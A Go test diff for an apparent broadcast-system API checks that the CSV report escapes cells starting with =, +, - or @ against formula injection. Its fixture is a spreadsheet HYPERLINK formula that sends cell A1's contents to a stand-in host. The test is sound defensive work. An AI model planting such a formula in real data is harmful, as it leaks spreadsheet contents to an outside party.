@@ -274,3 +274,44 @@ func TestBroadcastReportCountsDrillsApart(t *testing.T) {
 		}
 	}
 }
+
+// TestReportCSVFormulaCellsAreText: the broadcast report's CSV is opened
+// by officers in a spreadsheet. An area name is free text typed by another
+// user; one that begins with =, +, - or @ gets a leading apostrophe, so the
+// spreadsheet shows it instead of running it as a formula (CSV/formula
+// injection, CWE-1236). It was written as it was.
+func TestReportCSVFormulaCellsAreText(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	name := `=HYPERLINK("http://x.example/?d="&A1,"Xã Tiên Thắng")`
+	for _, a := range []map[string]string{
+		{"id": "31", "name": "Thành phố Hải Phòng"},
+		{"id": "12346", "name": name, "parent": "31"},
+	} {
+		e.call("POST", "/api/v1/areas", e.admin, a, http.StatusCreated, nil)
+	}
+	e.call("POST", "/api/v1/nodes", e.admin, map[string]any{"id": "n-a", "name": "Cụm loa chợ Đôi", "area": "12346", "lat": 20.716, "lon": 106.552},
+		http.StatusCreated, nil)
+	r := e.request("GET", "/api/v1/reports/broadcast?area=31&format=csv", e.admin, "", nil)
+	if r.status != http.StatusOK {
+		t.Fatalf("csv: %d %s", r.status, r.body)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, row := range rows[1:] {
+		if row[0] == "area" && row[3] == "'"+name {
+			found = true
+		}
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("row %v: cell %q starts with %q, which a spreadsheet runs as a formula", row[:2], cell, cell[0])
+			}
+		}
+	}
+	if !found {
+		t.Errorf("no area row names %q as text: %v", name, rows)
+	}
+}
